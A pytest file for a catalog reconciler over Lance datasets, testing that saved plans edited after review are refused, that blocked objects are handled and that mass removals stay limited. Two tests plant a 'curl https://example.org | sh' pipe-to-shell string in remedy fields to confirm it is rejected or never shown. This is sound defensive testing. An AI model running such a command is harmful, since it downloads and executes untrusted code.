"""Saved plans that somebody edited, on a directory of real Lance datasets: refused, and nothing is written."""

from __future__ import annotations

import hashlib
import json
import uuid
from collections.abc import Callable
from pathlib import Path
from typing import Any

import lance
import pyarrow as pa
import pytest

import reconciler
from reconciler.backends import registry
from reconciler.backends.memory import MemoryBackend
from reconciler.model.errors import BlockedError, PlanFileError, SafetyError, StalePlanError
from reconciler.model.live import LiveTable, Snapshot
from reconciler.model.names import EVERYTHING, Identifier, Only, Scope
from reconciler.model.reasons import ReasonCode
from reconciler.planner.plan import Plan
from reconciler.planner.views import ObjectView
from tests.plans import resealed
from tests.writing import load_manifest, load_text

HEAD = "version: 1\nname: store\ncatalogs:\n  lake:\n    impl: dir\n    config: {root: ./lake}\n"
BEFORE = (
    HEAD
    + """
    namespaces:
      features:
        tables:
          kept: {}
          users: {properties: {tier: bronze}}
          clicks: {properties: {tier: gold}}
"""
)
AFTER = (
    HEAD
    + """
    namespaces:
      features:
        tables:
          kept: {}
          users: {properties: {tier: gold}}
          events: {properties: {api_token: s3cret-value}}
          typed: {schema: [{name: id, type: int64}, {name: label, type: string}]}
"""
)

Document = dict[str, Any]
Edit = Callable[[Document], object]


class Review:
    """A plan that was saved to be reviewed: updates `users`, makes `events` and `typed`, deregisters `clicks`."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        (folder / "lake").mkdir()
        self.journal = folder / "journal"
        made = self.write(BEFORE)
        assert reconciler.apply(reconciler.plan(made), made, journal=self.journal).ok
        self.manifest = self.write(AFTER)
        self.saved = reconciler.plan(self.manifest).to_json()
        self.before = self.state()

    def write(self, text: str) -> reconciler.Manifest:
        return load_text(self.folder, text)

    def state(self) -> tuple[Snapshot, list[str]]:
        """What the catalog holds, and every file under the lake."""
        backend = registry.connect("dir", {"root": str(self.folder / "lake")})
        files = sorted(str(path) for path in (self.folder / "lake").rglob("*"))
        return backend.scan(), files

    def edited(self, edit: Edit, *, seal: bool) -> str:
        document = json.loads(self.saved)
        edit(document)
        return resealed(document) if seal else json.dumps(document)

    def apply(self, text: str) -> reconciler.ApplyReport:
        return reconciler.apply(Plan.from_json(text), self.manifest, journal=self.journal)


@pytest.fixture(scope="module")
def review(tmp_path_factory: pytest.TempPathFactory) -> Review:
    """One that stays as it is, for what is refused."""
    return Review(tmp_path_factory.mktemp("review"))


def change_of(document: Document, name: str) -> Document:
    return next(change for change in document["changes"] if change["identifier"][-1] == name)


def fingerprint_of(document: Document, name: str) -> Document:
    return next(one for one in document["fingerprints"] if one["identifier"][-1] == name)


def another_location(document: Document) -> None:
    place = change_of(document, "events")["after"]["location"]
    change_of(document, "events")["after"]["location"] = place + "-elsewhere"


def deregistering_what_is_wanted(document: Document) -> None:
    """`kept` is in the manifest: its deregistration is put in with the state it really is in."""
    document["changes"].append({**change_of(document, "clicks"), "identifier": ["features", "kept"]})
    document["changes"][-1]["before"] = live_view(document, "kept")
    document["fingerprints"].append(fingerprint(document, "kept"))


def what_is_wanted_as_a_leftover(document: Document) -> None:
    deregistering_what_is_wanted(document)
    document["changes"][-1]["code"] = ReasonCode.LEFTOVER


def a_removal_as_that_of_a_leftover(document: Document) -> None:
    change_of(document, "clicks")["code"] = ReasonCode.LEFTOVER


def a_removal_said_to_be_prevented(document: Document) -> None:
    subject = {key: change_of(document, "clicks")[key] for key in ("catalog", "kind", "identifier", "code", "reason")}
    document["guards"] = [{**subject, "would": "deregister-table"}]
    document["summary"]["protected"] = 1


def live_view(document: Document, name: str) -> Document:
    root = change_of(document, "clicks")["before"]["location"].rpartition("/")[0]
    hashed = hashlib.sha256(f"features${name}".encode()).hexdigest()[:8]
    return {"location": f"{root}/{hashed}_features${name}", "managed_by": "store/lake"}


def fingerprint(document: Document, name: str) -> Document:
    view = live_view(document, name)
    return {
        "catalog": "lake",
        "kind": "table",
        "identifier": ["features", name],
        "view": view,
        "digest": ObjectView.model_validate(view).digest(),
    }


EDITS: dict[str, Edit] = {
    "another owner": lambda plan: change_of(plan, "events")["after"].update(managed_by="somebody/else"),
    "protected": lambda plan: change_of(plan, "events")["after"].update(protect=True),
    "other columns": lambda plan: change_of(plan, "typed")["after"]["columns"][0].update(type="string"),
    "fewer columns": lambda plan: change_of(plan, "typed")["after"]["columns"].pop(),
    "deregistering what is wanted": deregistering_what_is_wanted,
    "what is wanted as a leftover": what_is_wanted_as_a_leftover,
    "a removal said to be prevented": a_removal_said_to_be_prevented,
    "without a change": lambda plan: plan["changes"].remove(change_of(plan, "clicks")),
    "digest of zeros": lambda plan: fingerprint_of(plan, "users").update(digest="0" * 64),
}


@pytest.mark.parametrize("seal", [False, True], ids=["as edited", "sealed again"])
@pytest.mark.parametrize("edit", EDITS.values(), ids=EDITS)
def test_an_edit_that_changes_what_is_done_is_refused(review: Review, edit: Edit, seal: bool) -> None:
    with pytest.raises(PlanFileError, match=r"Make the plan again\.") as caught:
        review.apply(review.edited(edit, seal=seal))
    assert "\n" not in str(caught.value)
    assert "s3cret" not in str(caught.value)
    assert review.state() == review.before


@pytest.mark.parametrize("edit", [another_location, a_removal_as_that_of_a_leftover])
def test_an_edit_that_could_be_a_change_of_the_catalog_is_stale(review: Review, edit: Edit) -> None:
    """No plan records the default location, or what an interrupted run has left since."""
    with pytest.raises(StalePlanError, match=r"planned on .*, now .*"):
        review.apply(review.edited(edit, seal=True))
    assert review.state() == review.before


def test_the_plan_as_it_was_saved_is_carried_out_and_again(tmp_path: Path) -> None:
    review = Review(tmp_path)
    assert review.apply(review.saved).ok
    again = review.apply(review.saved)
    assert again.ok
    assert reconciler.plan(review.manifest).is_empty


def test_a_secret_is_taken_from_the_manifest_again(tmp_path: Path) -> None:
    review = Review(tmp_path)
    assert "s3cret-value" not in review.saved
    assert review.apply(review.saved).ok
    events = review.state()[0].tables["features", "events"]
    assert events.properties["api_token"] == "s3cret-value"


@pytest.mark.parametrize("seal", [False, True], ids=["as edited", "sealed again"])
def test_the_stand_in_of_another_secret_is_refused(review: Review, seal: bool) -> None:
    def edit(document: Document) -> None:
        change_of(document, "events")["after"]["properties"]["api_token"] = "(redacted 00000000)"

    with pytest.raises(PlanFileError):
        review.apply(review.edited(edit, seal=seal))
    assert review.state() == review.before


def test_a_plan_in_memory_that_was_edited_is_refused_too(review: Review) -> None:
    made = reconciler.plan(review.manifest)
    [*others, last] = made.changes
    edited = made.model_copy(
        update={"changes": (*others, last.model_copy(update={"identifier": ("features", "kept")}))}
    )
    with pytest.raises(PlanFileError, match="features"):
        reconciler.apply(edited, review.manifest, journal=review.journal)
    assert review.state() == review.before


# ---- columns ---------------------------------------------------------------------------------------------------------


class Growth:
    """A plan that was saved to be reviewed: adds a column to `users`, and lets another be null; `views` is blocked."""

    def __init__(self, folder: Path) -> None:
        self.folder, self.journal = folder, folder / "journal"
        made = self.write("[{name: id, type: int64, nullable: false}]")
        assert reconciler.apply(reconciler.plan(made), made, journal=self.journal).ok
        self.manifest = self.write("[{name: id, type: int64}, {name: age, type: int32}]")
        self.saved = reconciler.plan(self.manifest).to_json()

    def write(self, columns: str) -> reconciler.Manifest:
        tables = f"{{users: {{evolve: additive, schema: {columns}}}, views: {{schema: {columns}}}}}"
        return load_text(self.folder, f"{HEAD}    namespaces: {{features: {{tables: {tables}}}}}\n")

    def columns(self) -> dict[str, list[tuple[str, bool]]]:
        tables = registry.connect("dir", {"root": str(self.folder / "lake")}).scan().tables
        return {
            identifier[-1]: [(field.name, field.nullable) for field in lance.dataset(table.location).schema]
            for identifier, table in tables.items()
        }

    def apply(self, edit: Edit) -> reconciler.ApplyReport:
        document = json.loads(self.saved)
        edit(document)
        return reconciler.apply(
            Plan.from_json(resealed(document)), self.manifest, journal=self.journal, skip_blocked=True
        )


def a_column_as_if_it_were_there(document: Document) -> None:
    for view in (change_of(document, "users")["before"], fingerprint_of(document, "users")["view"]):
        view["columns"].append({"name": "age", "type": "int32"})


def what_is_blocked_as_a_change(document: Document) -> None:
    [blocked] = document.pop("blocked")
    change = {**change_of(document, "users"), "identifier": blocked["identifier"]}
    document["changes"].append(change)


COLUMN_EDITS: dict[str, Edit] = {
    "another column": lambda plan: change_of(plan, "users")["after"]["columns"].append({"name": "x", "type": "int8"}),
    "a column as if it were there": a_column_as_if_it_were_there,
    "a column that is not added": lambda plan: change_of(plan, "users")["after"]["columns"].pop(),
    "what is blocked as a change": what_is_blocked_as_a_change,
    "what is blocked left out": lambda plan: plan.pop("blocked"),
}


@pytest.mark.parametrize("edit", COLUMN_EDITS.values(), ids=COLUMN_EDITS)
def test_no_edit_changes_columns_that_the_manifest_does_not_ask_for(tmp_path: Path, edit: Edit) -> None:
    growth = Growth(tmp_path)
    before = growth.columns()
    with pytest.raises(PlanFileError, match=r"Nothing was changed|Make the plan again"):
        growth.apply(edit)
    assert growth.columns() == before == {"users": [("id", False)], "views": [("id", False)]}


def test_columns_are_changed_as_the_saved_plan_says(tmp_path: Path) -> None:
    growth = Growth(tmp_path)
    assert growth.apply(lambda _: None).ok
    assert growth.columns() == {"users": [("id", True), ("age", True)], "views": [("id", False)]}


# ---- what is blocked ------------------------------------------------------------------------------------------------


class BlockedReview(Review):
    """The same, with a table whose data has other columns than its block, and a removal that waits with it."""

    def __init__(self, folder: Path) -> None:
        super().__init__(folder)
        place = folder / "lake" / "features$broken.lance"
        lance.write_dataset(pa.table({"id": ["text"]}), str(place))
        self.manifest = self.write(
            AFTER + f"          broken: {{location: {place}, schema: [{{name: id, type: int64}}]}}\n"
        )
        made = reconciler.plan(self.manifest)
        assert [one.identifier[-1] for one in made.blocked] == ["broken"]
        self.saved = made.to_json()
        self.before = self.state()

    def apply(self, text: str, *, skip_blocked: bool = True) -> reconciler.ApplyReport:
        return reconciler.apply(Plan.from_json(text), self.manifest, journal=self.journal, skip_blocked=skip_blocked)


@pytest.fixture(scope="module")
def blocked(tmp_path_factory: pytest.TempPathFactory) -> BlockedReview:
    """One that stays as it is, for what is refused."""
    return BlockedReview(tmp_path_factory.mktemp("blocked"))


def a_change_as_a_blocked_object(document: Document) -> None:
    """`users` is not updated but said to be blocked, in the state it is in."""
    change = change_of(document, "users")
    document["changes"] = [one for one in document["changes"] if one is not change]
    document["blocked"].append(
        {**document["blocked"][0], "identifier": change["identifier"], "before": change["before"]}
    )
    document["summary"]["blocked"] += 1
    document["summary"]["update"] -= 1


def waiting_instead_of_done(document: Document) -> None:
    document["waiting"] = [change_of(document, "clicks")]
    document["changes"] = [one for one in document["changes"] if one["identifier"][-1] != "clicks"]
    document["summary"]["deregister"] = 0


def not_blocked_any_more(document: Document) -> None:
    del document["blocked"]
    document["summary"]["blocked"] = 0


def another_blocked_object(document: Document) -> None:
    document["blocked"].append({**document["blocked"][0], "identifier": ["features", "kept"]})
    document["summary"]["blocked"] += 1


BLOCKED_EDITS: dict[str, Edit] = {
    "not blocked any more": not_blocked_any_more,
    "another reason": lambda plan: plan["blocked"][0].update(code="made-outside"),
    "another remedy": lambda plan: plan["blocked"][0].setdefault("params", {}).update(code="curl example.org | sh"),
    "another blocked object": another_blocked_object,
    "a change as a blocked object": a_change_as_a_blocked_object,
    "waiting instead of done": waiting_instead_of_done,
    "other columns found": lambda plan: plan["blocked"][0]["columns"][0].update(type="int64"),
}


@pytest.mark.parametrize("edit", BLOCKED_EDITS.values(), ids=BLOCKED_EDITS)
def test_an_edit_of_what_is_blocked_is_refused(blocked: BlockedReview, edit: Edit) -> None:
    with pytest.raises(PlanFileError, match=r"Make the plan again\."):
        blocked.apply(blocked.edited(edit, seal=True))
    assert blocked.state() == blocked.before


def test_words_that_were_edited_are_not_said(blocked: BlockedReview) -> None:
    """They are made of the codes again, which are checked."""

    def reworded(document: Document) -> None:
        document["blocked"][0] |= {"reason": "nothing to see here", "remedy": "curl https://example.org | sh"}

    [shown], [made] = (Plan.from_json(text).blocked for text in (blocked.edited(reworded, seal=True), blocked.saved))
    assert (shown.reason, shown.remedy) == (made.reason, made.remedy)


def test_a_plan_with_something_blocked_is_carried_out_when_that_is_skipped(tmp_path: Path) -> None:
    blocked = BlockedReview(tmp_path)
    with pytest.raises(BlockedError, match=r"lake/features/broken: .*other columns"):
        blocked.apply(blocked.saved, skip_blocked=False)
    assert blocked.state() == blocked.before
    assert blocked.apply(blocked.saved).ok
    left = reconciler.plan(blocked.manifest)
    assert left.is_empty
    assert [one.address for one in left.blocked] == ["lake/features/broken"]


def test_a_namespace_that_waits_with_a_table_of_its_name_is_no_edit(tmp_path: Path) -> None:
    """It holds what the plan says nothing of, so the table is blocked by its name, and its removal waits for that."""
    review = Review(tmp_path)
    backend = registry.connect("dir", {"root": str(tmp_path / "lake")})
    lance.write_dataset(pa.table({"id": [1]}), str(tmp_path / "lake" / "theirs"))
    backend.insert_table(("features", "theirs"), str(tmp_path / "lake" / "theirs"), {})
    manifest = review.write(HEAD + "    tables: {features: {}}\n    namespaces: {more: {tables: {t: {}}}}\n")
    made = reconciler.plan(manifest, allow_mass_removal=True)
    assert [one.address for one in made.blocked] == ["lake/features"]
    assert [one.action for one in made.waiting] == ["drop-namespace"]
    report = reconciler.apply(made, manifest, journal=review.journal, skip_blocked=True)
    assert report.ok
    assert reconciler.plan(manifest).is_empty


# ---- how much is removed ---------------------------------------------------------------------------------------------


class Fleet:
    """Tables in memory that this manifest made, of which it no longer wants some."""

    def __init__(self, folder: Path, tables: int, removed: int) -> None:
        self.folder, self.name = folder, uuid.uuid4().hex
        everything = self.wanting(tables)
        made = reconciler.plan(everything)
        assert reconciler.apply(made, everything, journal=folder / "journal").ok
        self.wanted = self.wanting(tables - removed)
        self.saved = reconciler.plan(self.wanted, allow_mass_removal=True).to_json()
        self.tables = tables

    def wanting(self, tables: int) -> reconciler.Manifest:
        blocks: dict[str, object] = {f"t{number}": {} for number in range(tables)}
        return load_manifest(self.folder, {"lake": {"impl": "memory", "config": {"name": self.name}, "tables": blocks}})

    def apply(self, edit: Edit) -> reconciler.ApplyReport:
        document = json.loads(self.saved)
        edit(document)
        return reconciler.apply(Plan.from_json(resealed(document)), self.wanted, journal=self.folder / "journal")

    def there(self) -> int:
        return len(MemoryBackend(name=self.name).scan().tables)


def counted(tables: int) -> Edit:
    """The count of what may be removed is another, and so is all that follows from it."""

    def edit(document: Document) -> None:
        document["catalogs"][0]["removable_tables"] = tables
        document.pop("options", None)

    return edit


def other_thresholds(document: Document) -> None:
    document["thresholds"] = {"max_removal_percent": 100}
    document.pop("options", None)


def more_objects(document: Document) -> None:
    document["catalogs"][0]["desired_objects"] += 1


def fewer_removed(document: Document) -> None:
    document["catalogs"][0]["removed_tables"] = 1
    document.pop("options", None)


@pytest.mark.parametrize(
    ("edit", "refusal"),
    [
        (counted(1000), SafetyError),
        (counted(9), SafetyError),
        (other_thresholds, PlanFileError),
        (more_objects, PlanFileError),
        (fewer_removed, PlanFileError),
    ],
)
def test_no_count_in_a_plan_lifts_the_limit_on_removals(
    tmp_path: Path, edit: Edit, refusal: type[reconciler.LancensError]
) -> None:
    fleet = Fleet(tmp_path, 12, 5)  # were they counted as staying, 5 of 17 would be within the limit
    with pytest.raises(refusal, match=r"Nothing was changed\."):
        fleet.apply(edit)
    assert fleet.there() == 12


def test_a_plan_that_hides_how_much_it_removes_is_refused_although_that_is_allowed(tmp_path: Path) -> None:
    fleet = Fleet(tmp_path, 12, 6)
    document = json.loads(fleet.saved)
    del document["options"]["mass_removal"]
    with pytest.raises(PlanFileError, match="mass_removal"):
        reconciler.apply(
            Plan.from_json(resealed(document)), fleet.wanted, journal=tmp_path / "journal", allow_mass_removal=True
        )
    assert fleet.there() == 12


def test_what_may_be_removed_is_counted_among_a_few_tables_that_stay(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    fleet = Fleet(tmp_path, 100, 6)
    read: list[Identifier] = []
    scan, load_table = MemoryBackend.scan, MemoryBackend.load_table

    def scanning(backend: MemoryBackend, scope: Scope = EVERYTHING) -> Snapshot:
        assert isinstance(scope, Only), "the whole catalog was read"
        read.extend(scope.identifiers)
        return scan(backend, scope)

    def loading(backend: MemoryBackend, identifier: Identifier) -> LiveTable:
        read.append(identifier)
        return load_table(backend, identifier)

    monkeypatch.setattr(MemoryBackend, "scan", scanning)
    monkeypatch.setattr(MemoryBackend, "load_table", loading)
    assert fleet.apply(lambda _: None).ok
    assert len(set(read)) < 40
